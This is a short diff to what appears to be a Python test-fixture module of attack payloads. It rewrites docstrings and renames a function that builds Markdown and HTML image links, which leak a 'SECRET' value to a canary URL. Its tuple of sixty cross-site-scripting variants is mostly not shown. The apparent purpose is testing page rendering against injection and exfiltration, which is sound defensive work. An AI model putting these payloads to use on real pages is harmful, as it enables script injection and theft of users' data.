@@ -1,4 +1,4 @@
-"""What has been tried on pages like this one: scripts in sixty disguises, and pictures that carry words out."""
+"""Attack payloads: cross-site scripting in sixty variants, and images that would exfiltrate data."""
 
 RUN = "window.pwned=1"
 SCRIPTS = (
@@ -67,8 +67,8 @@ SCRIPTS = (
 )
 
 
-def pictures(canary: str) -> tuple[str, ...]:
-    """Ways to have a page fetch an address of somebody else's choice."""
+def image_payloads(canary: str) -> tuple[str, ...]:
+    """Return Markdown and HTML that would make a page fetch the URL of an attacker."""
     leak = f"{canary}/?d=SECRET"
     return (
         f"![x]({leak}&n=1)",
